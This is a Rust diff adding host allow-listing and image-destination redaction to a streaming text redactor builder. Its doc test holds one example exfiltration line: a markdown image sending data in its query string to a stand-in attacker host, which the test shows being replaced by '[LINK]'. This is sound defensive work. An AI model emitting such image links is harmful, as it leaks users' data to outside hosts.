@@ -6,6 +6,7 @@ use std::fmt;
 
 use crate::edit::{Edit, Entity};
 use crate::redactor::{Config, Redactor};
+use crate::rules::Rule;
 use crate::view::{self, MAX_PENDING};
 
 /// Builds a [`Redactor`] from the recommended rules.
@@ -45,6 +46,40 @@ impl RedactorBuilder {
     /// view. A longer value that contains it is not spared.
     pub fn allow(mut self, value: impl AsRef<str>) -> Self {
         self.config.allowed.push(view::folded(value.as_ref()));
+        self
+    }
+
+    /// Lets links and images lead to this host whatever they carry: `files.example.com`, or
+    /// `*.example.com` for all hosts below a domain. Without a port, and without the scheme. A URL
+    /// whose host can be misread is never spared.
+    ///
+    /// ```
+    /// use stream_redactor::Redactor;
+    ///
+    /// let redactor = Redactor::builder().allow_host("charts.example.com").build()?;
+    /// let chart = "![sales](https://charts.example.com/bar?data=1,2,3)";
+    /// assert_eq!(redactor.redact(chart), chart);
+    /// let leak = "![sales](https://evil.example/bar?data=1,2,3)";
+    /// assert_eq!(redactor.redact(leak), "![sales]([LINK])");
+    /// # Ok::<(), stream_redactor::ConfigError>(())
+    /// ```
+    pub fn allow_host(mut self, host: impl AsRef<str>) -> Self {
+        self.config.hosts.push(view::folded(host.as_ref()));
+        self
+    }
+
+    /// Replaces the destination of every image on a host that is not
+    /// [allowed](Self::allow_host), also of those that carry nothing: a page fetches an image
+    /// unasked, and its name alone may say something.
+    pub fn all_images(mut self) -> Self {
+        if !self
+            .config
+            .rules
+            .iter()
+            .any(|rule| rule.entity == Entity::EXTERNAL_IMAGE)
+        {
+            self.config.rules.push(Rule::all_images());
+        }
         self
     }
 
@@ -127,6 +162,7 @@ impl fmt::Debug for RedactorBuilder {
     fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
         f.debug_struct("RedactorBuilder")
             .field("allowed", &self.config.allowed.len())
+            .field("hosts", &self.config.hosts.len())
             .field("max_hold", &self.config.max_hold)
             .finish_non_exhaustive()
     }
